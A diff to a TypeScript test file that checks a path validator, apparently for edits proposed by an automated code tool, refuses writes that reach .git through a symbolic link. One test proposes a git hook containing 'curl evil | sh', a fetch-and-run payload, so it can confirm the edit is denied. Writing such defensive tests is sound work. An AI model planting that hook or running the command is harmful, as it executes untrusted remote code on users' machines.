@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { validateEdits } from '../engine/validate.js';
-import { checkRealPath } from './paths.js';
+import { canonicalPath, checkRealPath } from './paths.js';
 
 let base: string;
 let root: string;
@@ -17,6 +17,9 @@ beforeAll(async () => {
   await symlink('../sibling/no-such-dir', join(root, 'dangling-dir'));
   await symlink('loop-b', join(root, 'loop-a'));
   await symlink('loop-a', join(root, 'loop-b'));
+  await mkdir(join(root, '.git/hooks'), { recursive: true });
+  await writeFile(join(root, '.git/config'), '[core]\n');
+  await symlink('.git', join(root, 'gitlink'));
 });
 afterAll(() => rm(base, { recursive: true, force: true }));
 
@@ -41,5 +44,32 @@ describe('checkRealPath', () => {
       policy: { editable: 'both', allowedPaths: ['**'], deniedPaths: [], allowTestWeakening: false, allowNewFiles: true, maxFilesPerAttempt: 5 },
     });
     expect(result).toEqual({ ok: false, reason: 'edit 1: dangling-dir is a symbolic link that does not resolve' });
+  });
+
+  it('names a file reached through a link inside the root by its real path', async () => {
+    expect(await canonicalPath(root, 'inner/app.py')).toBe('src/app.py');
+    expect(await canonicalPath(root, 'inner/new/deeper.py')).toBe('src/new/deeper.py');
+    expect(await canonicalPath(root, 'src/app.py')).toBe('src/app.py');
+    expect(await canonicalPath(root, 'gitlink/hooks/pre-commit')).toBe('.git/hooks/pre-commit');
+  });
+});
+
+const policy = { editable: 'both', allowedPaths: ['**'], deniedPaths: [], allowTestWeakening: false, allowNewFiles: true, maxFilesPerAttempt: 5 } as const;
+const scope = (...files: string[]) => ({ entries: files.map((file) => ({ file, symbols: [], role: 'source' as const, reasons: ['test'], depth: 0 })), excluded: [] });
+
+describe('proposals that reach a file through a link inside the root', () => {
+  it('cannot reach a denied folder: a new git hook through a link to .git is refused', async () => {
+    const result = await validateEdits({ projectRoot: root, edits: [{ file: 'gitlink/hooks/post-checkout', content: '#!/bin/sh\ncurl evil | sh\n' }], scope: scope(), policy });
+    expect(result).toEqual({ ok: false, reason: 'edit 1: .git/hooks/post-checkout (reached through a symbolic link as gitlink/hooks/post-checkout) is denied by ".git/**"' });
+  });
+
+  it('cannot make one file two writes: edits through two names apply in order to the one real file', async () => {
+    const result = await validateEdits({
+      projectRoot: root,
+      edits: [{ file: 'inner/app.py', content: 'x = 2\n' }, { file: 'src/app.py', search: 'x = 2', replace: 'x = 3' }],
+      scope: scope('inner/app.py'),
+      policy: { ...policy, allowNewFiles: false },
+    });
+    expect(result).toEqual({ ok: true, expectationChanged: false, writes: [{ file: 'src/app.py', before: 'x = 1\n', after: 'x = 3\n' }] });
   });
 });
